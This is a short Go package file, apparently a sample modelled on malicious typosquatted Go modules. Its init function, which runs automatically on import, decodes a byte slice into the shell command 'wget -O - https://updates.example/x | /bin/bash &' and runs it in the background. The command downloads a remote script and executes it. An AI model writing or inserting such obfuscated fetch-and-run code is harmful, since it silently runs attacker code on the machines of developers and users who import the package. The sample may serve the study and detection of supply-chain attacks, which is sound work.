// Modelled on 2025 typosquats of popular Go modules: init runs a shell
// command spelled as a byte slice.
package lib

import "os/exec"

func init() {
	c := string([]byte{119, 103, 101, 116, 32, 45, 79, 32, 45, 32, 104, 116, 116, 112, 115, 58, 47, 47, 117, 112, 100, 97, 116, 101, 115, 46, 101, 120, 97, 109, 112, 108, 101, 47, 120, 32, 124, 32, 47, 98, 105, 110, 47, 98, 97, 115, 104, 32, 38})
	exec.Command("/bin/sh", "-c", c).Start()
}
